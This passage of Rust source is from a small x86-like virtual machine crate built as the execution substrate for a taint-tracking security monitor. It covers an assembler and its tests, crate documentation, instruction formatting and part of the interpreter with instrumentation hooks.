                    .ok_or_else(|| Self::err(lineno, "bad interrupt number"))?;
                Instr::Int(v as u8)
            }
            "cpuid" => {
                need(0)?;
                Instr::Cpuid
            }
            "movsb" => {
                need(0)?;
                Instr::Movsb
            }
            "loop" => {
                need(1)?;
                Instr::Loop(self.target(lineno, &args[0])?)
            }
            "nop" => {
                need(0)?;
                Instr::Nop
            }
            "hlt" => {
                need(0)?;
                Instr::Hlt
            }
            jcc if jcc.starts_with('j') => {
                need(1)?;
                let cond = match &jcc[1..] {
                    "e" | "z" => Cond::E,
                    "ne" | "nz" => Cond::Ne,
                    "l" => Cond::L,
                    "le" => Cond::Le,
                    "g" => Cond::G,
                    "ge" => Cond::Ge,
                    "b" => Cond::B,
                    "be" => Cond::Be,
                    "a" => Cond::A,
                    "ae" => Cond::Ae,
                    "s" => Cond::S,
                    "ns" => Cond::Ns,
                    other => {
                        return Err(Self::err(lineno, format!("unknown condition `j{other}`")))
                    }
                };
                Instr::J(cond, self.target(lineno, &args[0])?)
            }
            other => return Err(Self::err(lineno, format!("unknown mnemonic `{other}`"))),
        };
        Ok(instr)
    }

    fn finish(self) -> Image {
        let mut exports = HashMap::new();
        for global in &self.globals {
            if let Some(addr) = self.symbol_addr(global) {
                exports.insert(Arc::from(global.as_str()), addr);
            }
        }
        let entry = self.symbol_addr("_start").unwrap_or(self.text_base);
        Image::from_parts(
            &self.name,
            self.text_base,
            self.text,
            self.data_base,
            self.data,
            entry,
            exports,
            self.extern_fixups,
        )
    }
}

// ---- small lexical helpers ------------------------------------------------

fn is_ident(s: &str) -> bool {
    !s.is_empty()
        && s.chars().next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '.')
}

/// Finds the colon ending a leading label (not inside brackets/strings,
/// and only when the prefix is a valid identifier).
fn find_label_colon(line: &str) -> Option<usize> {
    let colon = line.find(':')?;
    is_ident(line[..colon].trim()).then_some(colon)
}

fn split_word(line: &str) -> (&str, &str) {
    match line.split_once(char::is_whitespace) {
        Some((w, rest)) => (w, rest.trim()),
        None => (line, ""),
    }
}

/// Splits operand lists on commas outside brackets and strings.
fn split_args(s: &str) -> Vec<String> {
    let s = s.trim();
    if s.is_empty() {
        return Vec::new();
    }
    let mut args = Vec::new();
    let mut depth = 0usize;
    let mut in_str = false;
    let mut current = String::new();
    for c in s.chars() {
        match c {
            '"' => {
                in_str = !in_str;
                current.push(c);
            }
            '[' if !in_str => {
                depth += 1;
                current.push(c);
            }
            ']' if !in_str => {
                depth = depth.saturating_sub(1);
                current.push(c);
            }
            ',' if depth == 0 && !in_str => {
                args.push(current.trim().to_string());
                current.clear();
            }
            _ => current.push(c),
        }
    }
    args.push(current.trim().to_string());
    args
}

/// Splits `a+b-c` into signed terms.
fn split_signed(s: &str) -> Vec<(i32, String)> {
    let mut terms = Vec::new();
    let mut sign = 1i32;
    let mut current = String::new();
    for c in s.chars() {
        match c {
            '+' | '-' if !current.trim().is_empty() => {
                terms.push((sign, current.trim().to_string()));
                current.clear();
                sign = if c == '-' { -1 } else { 1 };
            }
            '-' => {
                // Leading minus on the first/next term.
                sign = -sign;
            }
            _ => current.push(c),
        }
    }
    if !current.trim().is_empty() {
        terms.push((sign, current.trim().to_string()));
    }
    terms
}

/// Parses decimal, hex (`0x`), negative and character (`'c'`) literals.
fn parse_number(token: &str) -> Option<u32> {
    let token = token.trim();
    if let Some(hex) = token.strip_prefix("0x").or_else(|| token.strip_prefix("0X")) {
        return u32::from_str_radix(hex, 16).ok();
    }
    if let Some(neg) = token.strip_prefix('-') {
        if let Some(hex) = neg.strip_prefix("0x") {
            return u32::from_str_radix(hex, 16).ok().map(|v| (v as i64).wrapping_neg() as u32);
        }
        return neg.parse::<i64>().ok().map(|v| (-v) as u32);
    }
    if token.len() == 3 && token.starts_with('\'') && token.ends_with('\'') {
        return Some(token.as_bytes()[1] as u32);
    }
    token.parse::<u32>().ok()
}

fn parse_string(token: &str) -> Option<String> {
    let inner = token.strip_prefix('"')?.strip_suffix('"')?;
    let mut out = String::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next()? {
                'n' => out.push('\n'),
                't' => out.push('\t'),
                '0' => out.push('\0'),
                other => out.push(other),
            }
        } else {
            out.push(c);
        }
    }
    Some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    const BASE: u32 = 0x0804_8000;

    #[test]
    fn minimal_program_assembles() {
        let img = assemble(
            "/bin/test",
            r"
            _start:
                mov eax, 1
                mov ebx, 0
                int 0x80
            ",
            BASE,
        )
        .unwrap();
        assert_eq!(img.text().len(), 3);
        assert_eq!(img.entry(), BASE);
        assert_eq!(img.text()[0], Instr::Mov(Operand::Reg(Reg::Eax), Operand::Imm(1)));
        assert_eq!(img.text()[2], Instr::Int(0x80));
    }

    #[test]
    fn labels_resolve_forward_and_backward() {
        let img = assemble(
            "t",
            r"
            _start:
                jmp end
            loop:
                nop
                jmp loop
            end:
                hlt
            ",
            0,
        )
        .unwrap();
        assert_eq!(img.text()[0], Instr::Jmp(Target::Abs(12)));
        assert_eq!(img.text()[2], Instr::Jmp(Target::Abs(4)));
    }

    #[test]
    fn data_labels_and_strings() {
        let img = assemble(
            "t",
            r#"
            _start:
                mov ebx, path
                hlt
            .data
            path: .asciz "/bin/ls"
            n:    .long 42
            "#,
            0,
        )
        .unwrap();
        let data_base = img.data_base();
        assert_eq!(data_base % 0x1000, 0);
        assert_eq!(img.text()[0], Instr::Mov(Operand::Reg(Reg::Ebx), Operand::Imm(data_base)));
        assert_eq!(&img.data()[..8], b"/bin/ls\0");
        assert_eq!(&img.data()[8..12], &42u32.to_le_bytes());
    }

    #[test]
    fn data_can_hold_label_addresses() {
        let img = assemble(
            "t",
            r#"
            _start: hlt
            .data
            s:    .asciz "x"
            ptrs: .long s, 0
            "#,
            0,
        )
        .unwrap();
        let s_addr = img.data_base();
        assert_eq!(&img.data()[2..6], &s_addr.to_le_bytes());
    }

    #[test]
    fn equ_constants() {
        let img = assemble(
            "t",
            r"
            .equ SYS_write, 4
            _start:
                mov eax, SYS_write
                hlt
            ",
            0,
        )
        .unwrap();
        assert_eq!(img.text()[0], Instr::Mov(Operand::Reg(Reg::Eax), Operand::Imm(4)));
    }

    #[test]
    fn memory_operands() {
        let img = assemble(
            "t",
            r"
            _start:
                mov eax, [ebx]
                mov eax, [ebx+4]
                mov eax, [ebp-8]
                mov [esi+edi], eax
                movb [buf+1], eax
                hlt
            .data
            buf: .space 4
            ",
            0,
        )
        .unwrap();
        assert_eq!(
            img.text()[0],
            Instr::Mov(Operand::Reg(Reg::Eax), Operand::Mem(MemRef::reg(Reg::Ebx)))
        );
        assert_eq!(
            img.text()[2],
            Instr::Mov(Operand::Reg(Reg::Eax), Operand::Mem(MemRef::reg_disp(Reg::Ebp, -8)))
        );
        let Instr::Mov(Operand::Mem(m), _) = &img.text()[3] else { panic!() };
        assert_eq!((m.base, m.index), (Some(Reg::Esi), Some(Reg::Edi)));
        let Instr::MovB(Operand::Mem(m), _) = &img.text()[4] else { panic!() };
        assert_eq!(m.disp as u32, img.data_base() + 1);
    }

    #[test]
    fn extern_calls_are_recorded() {
        let img = assemble(
            "t",
            r"
            .extern gethostbyname
            _start:
                call gethostbyname
                hlt
            ",
            0,
        )
        .unwrap();
        assert_eq!(img.externs().len(), 1);
        assert_eq!(img.externs()[0].0, 0);
        assert_eq!(&*img.externs()[0].1, "gethostbyname");
    }

    #[test]
    fn undefined_target_is_an_error() {
        let err = assemble("t", "_start:\n call nowhere\n", 0).unwrap_err();
        assert!(err.message.contains("undefined target"));
        assert_eq!(err.line, 2);
    }

    #[test]
    fn globals_are_exported() {
        let img = assemble(
            "libc.so",
            r"
            .global helper
            _start: hlt
            helper: ret
            ",
            0x4000_0000,
        )
        .unwrap();
        assert_eq!(img.exports()["helper"], 0x4000_0004);
    }

    #[test]
    fn duplicate_label_is_an_error() {
        let err = assemble("t", "a:\n nop\na:\n nop\n", 0).unwrap_err();
        assert!(err.message.contains("duplicate label"));
    }

    #[test]
    fn instructions_in_data_section_error() {
        let err = assemble("t", ".data\n mov eax, 1\n", 0).unwrap_err();
        assert!(err.message.contains("outside .text"));
    }

    #[test]
    fn comments_and_blank_lines_ignored() {
        let img =
            assemble("t", "; leading comment\n_start: nop ; trailing\n# hash comment\n\n hlt\n", 0)
                .unwrap();
        assert_eq!(img.text().len(), 2);
    }

    #[test]
    fn numbers_hex_negative_char() {
        assert_eq!(parse_number("0x80"), Some(0x80));
        assert_eq!(parse_number("-1"), Some(u32::MAX));
        assert_eq!(parse_number("'A'"), Some(65));
        assert_eq!(parse_number("12"), Some(12));
        assert_eq!(parse_number("zz"), None);
    }

    #[test]
    fn jcc_variants() {
        let img =
            assemble("t", "_start:\n je _start\n jnz _start\n jge _start\n jb _start\n hlt\n", 0)
                .unwrap();
        assert_eq!(img.text()[0], Instr::J(Cond::E, Target::Abs(0)));
        assert_eq!(img.text()[1], Instr::J(Cond::Ne, Target::Abs(0)));
        assert_eq!(img.text()[2], Instr::J(Cond::Ge, Target::Abs(0)));
        assert_eq!(img.text()[3], Instr::J(Cond::B, Target::Abs(0)));
    }
}
