//! # hth-vm — the execution substrate under Harrier
//!
//! The HTH paper builds its monitor on Intel Pin instrumenting real x86
//! Linux binaries. This crate is the substitute substrate: a small
//! 32-bit x86-flavoured ISA with
//!
//! * a **text assembler** ([`asm::assemble`]) so workloads are written as
//!   assembly programs, exactly like the paper's micro-benchmarks,
//! * **loadable images** with exported symbols and load-time resolution
//!   of `.extern` references (dynamic linking of a toy `libc.so`),
//! * an **interpreter** ([`Core`]) that exposes monitor hooks at every
//!   granularity of the paper's Table 3 — instruction, basic block,
//!   routine (call/ret), and image — plus per-instruction **dataflow
//!   micro-ops** ([`TaintOp`]) that tell the monitor exactly which
//!   registers and memory bytes each instruction read and wrote, and
//! * `int 0x80` syscall surfacing (serviced by the `emukernel` crate) and
//!   `cpuid` as the paper's example of a `HARDWARE` data source.
//!
//! ```
//! use hth_vm::{asm, Core, NullHooks, Reg, StepEvent};
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let image = asm::assemble(
//!     "/bin/sum",
//!     r"
//!     _start:
//!         mov ecx, 4
//!         xor eax, eax
//!     top:
//!         add eax, ecx
//!         dec ecx
//!         cmp ecx, 0
//!         jne top
//!         hlt
//!     ",
//!     0x0804_8000,
//! )?;
//! let mut core = Core::new();
//! core.load_image(image);
//! core.link()?;
//! core.start();
//! while core.step(&mut NullHooks)? == StepEvent::Continue {}
//! assert_eq!(core.cpu.get(Reg::Eax), 10);
//! # Ok(())
//! # }
//! ```

#![warn(missing_docs)]

pub mod asm;
pub mod bb;
pub mod disasm;
mod image;
mod isa;
mod machine;
mod mem;

pub use asm::AsmError;
pub use image::{Image, ImageId};
pub use isa::{AluOp, Cond, Instr, MemRef, Operand, Reg, Target};
pub use machine::{Core, Cpu, Flags, Hooks, Loc, NullHooks, StepEvent, TaintOp, VmError};
pub use mem::{MemFault, Memory, PAGE_SIZE};
