//! Instruction formatting for diagnostics and traces.

use std::fmt;

use crate::isa::Instr;

impl fmt::Display for Instr {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Instr::Mov(d, s) => write!(f, "mov {d}, {s}"),
            Instr::MovB(d, s) => write!(f, "movb {d}, {s}"),
            Instr::Lea(r, m) => write!(f, "lea {r}, {m}"),
            Instr::Alu(op, d, s) => write!(f, "{op} {d}, {s}"),
            Instr::Cmp(a, b) => write!(f, "cmp {a}, {b}"),
            Instr::Test(a, b) => write!(f, "test {a}, {b}"),
            Instr::Inc(x) => write!(f, "inc {x}"),
            Instr::Dec(x) => write!(f, "dec {x}"),
            Instr::Neg(x) => write!(f, "neg {x}"),
            Instr::NotOp(x) => write!(f, "not {x}"),
            Instr::Push(x) => write!(f, "push {x}"),
            Instr::Pop(x) => write!(f, "pop {x}"),
            Instr::Jmp(t) => write!(f, "jmp {t}"),
            Instr::J(c, t) => write!(f, "j{c} {t}"),
            Instr::Call(t) => write!(f, "call {t}"),
            Instr::Ret => write!(f, "ret"),
            Instr::Int(n) => write!(f, "int {n:#x}"),
            Instr::Cpuid => write!(f, "cpuid"),
            Instr::Movsb => write!(f, "movsb"),
            Instr::Loop(t) => write!(f, "loop {t}"),
            Instr::Nop => write!(f, "nop"),
            Instr::Hlt => write!(f, "hlt"),
        }
    }
}

/// Formats a text section as an address-annotated listing.
pub fn listing(base: u32, text: &[Instr]) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    for (i, instr) in text.iter().enumerate() {
        let _ = writeln!(out, "{:#010x}:  {instr}", base + 4 * i as u32);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::isa::{Cond, MemRef, Operand, Reg, Target};

    #[test]
    fn display_shapes() {
        assert_eq!(Instr::Mov(Operand::Reg(Reg::Eax), Operand::Imm(5)).to_string(), "mov eax, 0x5");
        assert_eq!(
            Instr::MovB(Operand::Mem(MemRef::reg(Reg::Ebx)), Operand::Reg(Reg::Eax)).to_string(),
            "movb [ebx], eax"
        );
        assert_eq!(Instr::J(Cond::Ne, Target::Abs(0x10)).to_string(), "jne 0x10");
        assert_eq!(Instr::Int(0x80).to_string(), "int 0x80");
    }

    #[test]
    fn listing_includes_addresses() {
        let out = listing(0x1000, &[Instr::Nop, Instr::Ret]);
        assert!(out.contains("0x00001000:  nop"));
        assert!(out.contains("0x00001004:  ret"));
    }
}
