//! The interpreter core: CPU state, execution, and monitor hooks.
//!
//! `Core` plays the role Pin plays in the paper: it executes the program
//! while exposing instrumentation at every granularity of Table 3 —
//! instruction (`on_instr` + `on_taint`), basic block (`on_bb`), routine
//! (`on_call`/`on_ret`), and image (loading is observable through
//! [`Core::images`]). The dataflow micro-ops ([`TaintOp`]) describe
//! exactly which locations each instruction read and wrote, so the
//! monitor above never has to re-implement instruction semantics.

use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;

use crate::image::{Image, ImageId};
use crate::isa::{AluOp, Cond, Instr, MemRef, Operand, Reg, Target};
use crate::mem::{MemFault, Memory};

/// Condition flags (subset of EFLAGS).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Flags {
    /// Zero flag.
    pub zf: bool,
    /// Sign flag.
    pub sf: bool,
    /// Carry flag.
    pub cf: bool,
    /// Overflow flag.
    pub of: bool,
}

/// Architectural CPU state.
#[derive(Clone, Debug, Default)]
pub struct Cpu {
    /// General-purpose register file, indexed by [`Reg::index`].
    pub regs: [u32; 8],
    /// Instruction pointer.
    pub eip: u32,
    /// Condition flags.
    pub flags: Flags,
}

impl Cpu {
    /// Reads a register.
    pub fn get(&self, reg: Reg) -> u32 {
        self.regs[reg.index()]
    }

    /// Writes a register.
    pub fn set(&mut self, reg: Reg, value: u32) {
        self.regs[reg.index()] = value;
    }
}

/// A taint location: a whole register or a span of memory bytes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Loc {
    /// Register (tracked as a unit).
    Reg(Reg),
    /// Memory bytes `[addr, addr+len)` (tracked per byte).
    Mem(u32, u32),
}

/// A dataflow micro-op: `dst := union(srcs) [∪ BINARY] [∪ HARDWARE]`.
///
/// With no sources and no flags the destination's taint is *cleared*
/// (e.g. `xor eax, eax`, the canonical zeroing idiom).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct TaintOp {
    /// Destination location.
    pub dst: Loc,
    /// Up to two source locations whose tags flow into `dst`.
    pub srcs: [Option<Loc>; 2],
    /// Union in the executing image's `BINARY` source (immediates).
    pub imm: bool,
    /// Union in the `HARDWARE` source (`cpuid`).
    pub hardware: bool,
}

impl TaintOp {
    fn mov(dst: Loc, src: Loc) -> TaintOp {
        TaintOp { dst, srcs: [Some(src), None], imm: false, hardware: false }
    }

    fn imm(dst: Loc) -> TaintOp {
        TaintOp { dst, srcs: [None, None], imm: true, hardware: false }
    }

    fn clear(dst: Loc) -> TaintOp {
        TaintOp { dst, srcs: [None, None], imm: false, hardware: false }
    }

    fn hardware(dst: Loc) -> TaintOp {
        TaintOp { dst, srcs: [None, None], imm: false, hardware: true }
    }
}

/// Monitor callbacks. All methods default to no-ops so a partial monitor
/// (e.g. syscall-only, for the §9 overhead ablation) implements only what
/// it needs.
pub trait Hooks {
    /// Entering the basic block whose leader is `leader` in `image`.
    fn on_bb(&mut self, image: ImageId, leader: u32) {
        let _ = (image, leader);
    }

    /// About to execute `instr` at `addr` inside `image`.
    fn on_instr(&mut self, image: ImageId, addr: u32, instr: &Instr) {
        let _ = (image, addr, instr);
    }

    /// Dataflow effect of the instruction just executed.
    fn on_taint(&mut self, image: ImageId, op: &TaintOp) {
        let _ = (image, op);
    }

    /// A `call` transferred control; `symbol` is set when the target is
    /// an exported routine (routine-granularity instrumentation).
    fn on_call(
        &mut self,
        from_image: ImageId,
        to_image: ImageId,
        target: u32,
        symbol: Option<&Arc<str>>,
    ) {
        let _ = (from_image, to_image, target, symbol);
    }

    /// A `ret` transferred control back to `to_addr`.
    fn on_ret(&mut self, to_image: ImageId, to_addr: u32) {
        let _ = (to_image, to_addr);
    }
}

/// The no-op monitor: native-speed baseline for the overhead ablation.
#[derive(Clone, Copy, Debug, Default)]
pub struct NullHooks;

impl Hooks for NullHooks {}

/// Execution faults.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum VmError {
    /// Data access to unmapped memory.
    Fault(MemFault),
    /// Instruction fetch from an address outside every image's text.
    NoText(u32),
    /// Control transfer through an extern that the loader never resolved.
    UnresolvedExtern(String),
}

impl fmt::Display for VmError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            VmError::Fault(fault) => write!(f, "{fault}"),
            VmError::NoText(addr) => write!(f, "instruction fetch outside text at {addr:#010x}"),
            VmError::UnresolvedExtern(sym) => write!(f, "unresolved external symbol `{sym}`"),
        }
    }
}

impl std::error::Error for VmError {}

impl From<MemFault> for VmError {
    fn from(fault: MemFault) -> VmError {
        VmError::Fault(fault)
    }
}

/// Outcome of one [`Core::step`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum StepEvent {
    /// Instruction retired normally.
    Continue,
    /// `int n` executed (0x80 = syscall); the OS layer must service it.
    Interrupt(u8),
    /// `hlt` executed.
    Halted,
}

/// An execution core: CPU + memory + loaded images.
///
/// ```
/// use hth_vm::{asm, Core, NullHooks, StepEvent};
/// # fn main() -> Result<(), Box<dyn std::error::Error>> {
/// let img = asm::assemble("/bin/demo", "_start:\n mov eax, 7\n hlt\n", 0x0804_8000)?;
/// let mut core = Core::new();
/// core.load_image(img);
/// core.link()?;
/// core.start();
/// let mut hooks = NullHooks;
/// assert_eq!(core.step(&mut hooks)?, StepEvent::Continue);
/// assert_eq!(core.step(&mut hooks)?, StepEvent::Halted);
/// assert_eq!(core.cpu.get(hth_vm::Reg::Eax), 7);
/// # Ok(())
/// # }
/// ```
#[derive(Clone, Debug)]
pub struct Core {
    /// Architectural state.
    pub cpu: Cpu,
    /// The address space.
    pub mem: Memory,
    images: Vec<Image>,
    symbol_at: HashMap<u32, Arc<str>>,
    cpuid_values: [u32; 4],
    instret: u64,
    last_image: usize,
}

impl Default for Core {
    fn default() -> Core {
        Core::new()
    }
}

impl Core {
    /// Creates an empty core.
    pub fn new() -> Core {
        Core {
            cpu: Cpu::default(),
            mem: Memory::new(),
            images: Vec::new(),
            symbol_at: HashMap::new(),
            cpuid_values: [0x0000_0001, 0x4854_4856, 0x4d56_5f48, 0x2056_3130],
            instret: 0,
            last_image: 0,
        }
    }

    /// Overrides the values `cpuid` loads into eax..edx.
    pub fn set_cpuid(&mut self, values: [u32; 4]) {
        self.cpuid_values = values;
    }

    /// Loads an image: maps and copies its data section, indexes its
    /// exported symbols. Returns the image id.
    pub fn load_image(&mut self, image: Image) -> ImageId {
        let id = ImageId(self.images.len() as u32);
        if !image.data().is_empty() {
            self.mem.map(image.data_base(), image.data_end());
            self.mem
                .write_bytes(image.data_base(), image.data())
                .expect("freshly mapped data range");
        }
        for (sym, addr) in image.exports() {
            self.symbol_at.insert(*addr, sym.clone());
        }
        self.images.push(image);
        id
    }

    /// Resolves every pending extern reference against the exported
    /// symbols of all loaded images (dynamic linking).
    ///
    /// # Errors
    ///
    /// Returns [`VmError::UnresolvedExtern`] naming the first symbol that
    /// no loaded image exports.
    pub fn link(&mut self) -> Result<(), VmError> {
        let mut exports: HashMap<Arc<str>, u32> = HashMap::new();
        for image in &self.images {
            for (sym, addr) in image.exports() {
                exports.entry(sym.clone()).or_insert(*addr);
            }
        }
        for image in &mut self.images {
            let fixups: Vec<(usize, Arc<str>)> = image.externs().to_vec();
            for (idx, sym) in fixups {
                let addr =
                    *exports.get(&sym).ok_or_else(|| VmError::UnresolvedExtern(sym.to_string()))?;
                match &mut image.text_mut()[idx] {
                    Instr::Call(t) | Instr::Jmp(t) | Instr::J(_, t) => *t = Target::Abs(addr),
                    other => panic!("extern fixup on non-branch {other:?}"),
                }
            }
            image.clear_externs();
        }
        Ok(())
    }

    /// Loaded images in load order.
    pub fn images(&self) -> &[Image] {
        &self.images
    }

    /// The image containing text address `addr`.
    pub fn image_at(&self, addr: u32) -> Option<(ImageId, &Image)> {
        let idx = self.find_image_idx(addr)?;
        Some((ImageId(idx as u32), &self.images[idx]))
    }

    fn find_image_idx(&self, addr: u32) -> Option<usize> {
        if let Some(img) = self.images.get(self.last_image) {
            if img.contains_text(addr) {
                return Some(self.last_image);
            }
        }
        self.images.iter().position(|img| img.contains_text(addr))
    }

    /// Exported symbol starting exactly at `addr`, if any.
    pub fn symbol_at(&self, addr: u32) -> Option<&Arc<str>> {
        self.symbol_at.get(&addr)
    }

    /// Points `eip` at the first image's entry. Stack setup is the OS
    /// layer's job.
    ///
    /// # Panics
    ///
    /// Panics when no image is loaded.
    pub fn start(&mut self) {
        self.cpu.eip = self.images.first().expect("no image loaded").entry();
    }

    /// Instructions retired so far (drives the virtual clock).
    pub fn instret(&self) -> u64 {
        self.instret
    }

    // ---- operand plumbing -------------------------------------------------

    fn ea(&self, m: &MemRef) -> u32 {
        let mut addr = m.disp as u32;
        if let Some(b) = m.base {
            addr = addr.wrapping_add(self.cpu.get(b));
        }
        if let Some(i) = m.index {
            addr = addr.wrapping_add(self.cpu.get(i));
        }
        addr
    }

    /// Reads an operand; returns the value and its taint source (None for
    /// immediates — the caller marks those `imm`).
    fn read(&self, op: &Operand, width: u32) -> Result<(u32, Option<Loc>), VmError> {
        Ok(match op {
            Operand::Reg(r) => (self.cpu.get(*r), Some(Loc::Reg(*r))),
            Operand::Imm(v) => (*v, None),
            Operand::Mem(m) => {
                let addr = self.ea(m);
                let value = if width == 1 {
                    u32::from(self.mem.read_u8(addr)?)
                } else {
                    self.mem.read_u32(addr)?
                };
                (value, Some(Loc::Mem(addr, width)))
            }
        })
    }

    /// Writes an operand; returns the destination taint location.
    fn write(&mut self, op: &Operand, value: u32, width: u32) -> Result<Loc, VmError> {
        Ok(match op {
            Operand::Reg(r) => {
                self.cpu.set(*r, value);
                Loc::Reg(*r)
            }
            Operand::Imm(_) => panic!("immediate as destination (assembler bug)"),
            Operand::Mem(m) => {
                let addr = self.ea(m);
                if width == 1 {
                    self.mem.write_u8(addr, value as u8)?;
                } else {
                    self.mem.write_u32(addr, value)?;
                }
                Loc::Mem(addr, width)
            }
        })
    }

    fn set_flags_logic(&mut self, result: u32) {
        self.cpu.flags.zf = result == 0;
        self.cpu.flags.sf = (result as i32) < 0;
        self.cpu.flags.cf = false;
        self.cpu.flags.of = false;
    }

    fn set_flags_add(&mut self, a: u32, b: u32, result: u32) {
        self.cpu.flags.zf = result == 0;
        self.cpu.flags.sf = (result as i32) < 0;
        self.cpu.flags.cf = (u64::from(a) + u64::from(b)) > u64::from(u32::MAX);
        self.cpu.flags.of = ((a ^ result) & (b ^ result) & 0x8000_0000) != 0;
    }

    fn set_flags_sub(&mut self, a: u32, b: u32, result: u32) {
        self.cpu.flags.zf = result == 0;
        self.cpu.flags.sf = (result as i32) < 0;
        self.cpu.flags.cf = a < b;
        self.cpu.flags.of = ((a ^ b) & (a ^ result) & 0x8000_0000) != 0;
    }

    fn cond(&self, c: Cond) -> bool {
        let f = self.cpu.flags;
        match c {
            Cond::E => f.zf,
            Cond::Ne => !f.zf,
            Cond::L => f.sf != f.of,
            Cond::Le => f.zf || f.sf != f.of,
            Cond::G => !f.zf && f.sf == f.of,
            Cond::Ge => f.sf == f.of,
            Cond::B => f.cf,
            Cond::Be => f.cf || f.zf,
            Cond::A => !f.cf && !f.zf,
            Cond::Ae => !f.cf,
            Cond::S => f.sf,
            Cond::Ns => !f.sf,
        }
    }

    // ---- execution ---------------------------------------------------------

    /// Executes one instruction under the given monitor hooks.
    ///
    /// # Errors
    ///
    /// Returns a [`VmError`] when the program faults (unmapped access,
    /// wild jump, unresolved extern). Faults model the monitored program
    /// crashing, not a monitor failure.
    pub fn step(&mut self, hooks: &mut dyn Hooks) -> Result<StepEvent, VmError> {
        let eip = self.cpu.eip;
        let image_idx = self.find_image_idx(eip).ok_or(VmError::NoText(eip))?;
        self.last_image = image_idx;
        let image_id = ImageId(image_idx as u32);
        let (is_leader, instr) = {
            let image = &self.images[image_idx];
            (
                image.bb_of(eip) == Some(eip),
                image.instr_at(eip).expect("find_image_idx guarantees text range").clone(),
            )
        };
        if is_leader {
            hooks.on_bb(image_id, eip);
        }
        hooks.on_instr(image_id, eip, &instr);
        self.instret += 1;
        let next = eip.wrapping_add(4);
        self.cpu.eip = next;

        match &instr {
            Instr::Nop => {}
            Instr::Hlt => return Ok(StepEvent::Halted),
            Instr::Int(n) => return Ok(StepEvent::Interrupt(*n)),
            Instr::Mov(dst, src) | Instr::MovB(dst, src) => {
                let width = if matches!(instr, Instr::MovB(..)) { 1 } else { 4 };
                let (value, src_loc) = self.read(src, width)?;
                let dst_loc = self.write(dst, value, width)?;
                let op = match src_loc {
                    Some(loc) => TaintOp::mov(dst_loc, loc),
                    None => TaintOp::imm(dst_loc),
                };
                hooks.on_taint(image_id, &op);
            }
            Instr::Lea(reg, m) => {
                let addr = self.ea(m);
                self.cpu.set(*reg, addr);
                let srcs = [m.base.map(Loc::Reg), m.index.map(Loc::Reg)];
                hooks.on_taint(
                    image_id,
                    &TaintOp { dst: Loc::Reg(*reg), srcs, imm: true, hardware: false },
                );
            }
            Instr::Alu(op, dst, src) => {
                // `xor x, x` zeroes and breaks the dataflow dependency.
                if *op == AluOp::Xor && dst == src {
                    let dst_loc = self.write(dst, 0, 4)?;
                    self.set_flags_logic(0);
                    hooks.on_taint(image_id, &TaintOp::clear(dst_loc));
                } else {
                    let (a, dst_src_loc) = self.read(dst, 4)?;
                    let (b, src_loc) = self.read(src, 4)?;
                    let result = match op {
                        AluOp::Add => {
                            let r = a.wrapping_add(b);
                            self.set_flags_add(a, b, r);
                            r
                        }
                        AluOp::Sub => {
                            let r = a.wrapping_sub(b);
                            self.set_flags_sub(a, b, r);
                            r
                        }
                        AluOp::And => {
                            let r = a & b;
                            self.set_flags_logic(r);
                            r
                        }
                        AluOp::Or => {
                            let r = a | b;
                            self.set_flags_logic(r);
                            r
                        }
                        AluOp::Xor => {
                            let r = a ^ b;
                            self.set_flags_logic(r);
                            r
                        }
                        AluOp::Imul => {
                            let r = (a as i32).wrapping_mul(b as i32) as u32;
                            self.set_flags_logic(r);
                            r
                        }
                        AluOp::Shl => {
                            let r = a.wrapping_shl(b & 31);
                            self.set_flags_logic(r);
                            r
                        }
                        AluOp::Shr => {
                            let r = a.wrapping_shr(b & 31);
                            self.set_flags_logic(r);
                            r
                        }
                    };
                    let dst_loc = self.write(dst, result, 4)?;
                    hooks.on_taint(
                        image_id,
                        &TaintOp {
                            dst: dst_loc,
                            srcs: [dst_src_loc, src_loc],
                            imm: src_loc.is_none(),
                            hardware: false,
                        },
                    );
                }
            }
            Instr::Cmp(a, b) => {
                let (va, _) = self.read(a, 4)?;
                let (vb, _) = self.read(b, 4)?;
                let r = va.wrapping_sub(vb);
                self.set_flags_sub(va, vb, r);
            }
            Instr::Test(a, b) => {
                let (va, _) = self.read(a, 4)?;
                let (vb, _) = self.read(b, 4)?;
                self.set_flags_logic(va & vb);
            }
            Instr::Inc(x) | Instr::Dec(x) => {
                let (v, src_loc) = self.read(x, 4)?;
                let r = if matches!(instr, Instr::Inc(_)) {
                    v.wrapping_add(1)
                } else {
                    v.wrapping_sub(1)
                };
                self.cpu.flags.zf = r == 0;
                self.cpu.flags.sf = (r as i32) < 0;
                let dst_loc = self.write(x, r, 4)?;
                hooks.on_taint(
                    image_id,
                    &TaintOp { dst: dst_loc, srcs: [src_loc, None], imm: true, hardware: false },
                );
            }
            Instr::Neg(x) | Instr::NotOp(x) => {
                let (v, src_loc) = self.read(x, 4)?;
                let r = if matches!(instr, Instr::Neg(_)) { v.wrapping_neg() } else { !v };
                self.cpu.flags.zf = r == 0;
                self.cpu.flags.sf = (r as i32) < 0;
                let dst_loc = self.write(x, r, 4)?;
                hooks.on_taint(
                    image_id,
                    &TaintOp { dst: dst_loc, srcs: [src_loc, None], imm: false, hardware: false },
                );
            }
            Instr::Push(src) => {
                let (value, src_loc) = self.read(src, 4)?;
                let esp = self.cpu.get(Reg::Esp).wrapping_sub(4);
                self.cpu.set(Reg::Esp, esp);
                self.mem.write_u32(esp, value)?;
                let op = match src_loc {
                    Some(loc) => TaintOp::mov(Loc::Mem(esp, 4), loc),
                    None => TaintOp::imm(Loc::Mem(esp, 4)),
                };
                hooks.on_taint(image_id, &op);
            }
            Instr::Pop(dst) => {
                let esp = self.cpu.get(Reg::Esp);
                let value = self.mem.read_u32(esp)?;
